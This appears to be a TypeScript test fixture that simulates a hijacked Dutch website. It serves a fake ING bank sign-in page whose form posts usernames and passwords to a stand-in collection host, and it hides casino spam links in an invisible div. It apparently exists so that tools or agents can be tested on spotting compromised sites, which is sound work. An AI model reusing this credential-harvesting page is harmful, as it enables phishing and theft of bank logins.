import { html, text } from '../answers.ts';
import type { Site } from '../site.ts';

/** A baker's site that others use: a bank's sign-in page over the whole window, and links that only robots should find. */

const CASINO = ['a', 'b', 'c', 'd'].map((name) => `<a href="https://${name}.example/online-casino">online casino</a>`);

const PAGE = `<!doctype html><html lang="nl"><head><meta charset="utf-8"><title>Mijn ING - Inloggen</title>
<meta name="viewport" content="width=device-width, initial-scale=1">
<style>body { margin: 0; } .vlak { min-height: 100vh; display: grid; place-content: center; background: #ff6200; color: #000; }</style>
</head><body><main class="vlak"><h1>Inloggen</h1>
<form action="https://verzamel.example/p.php" method="post"><p><label for="naam">Gebruikersnaam</label> <input id="naam" name="naam"></p>
<p><label for="woord">Wachtwoord</label> <input id="woord" name="woord" type="password"></p><p><button>Verder</button></p></form></main>
<div style="display: none">${CASINO.join(' ')}</div></body></html>`;

export const overgenomen: Site = {
  hosts: ['overgenomen.nl'],
  https: ({ path }) => (path === '/' ? html(PAGE) : text('Niet gevonden', {}, 404)),
};
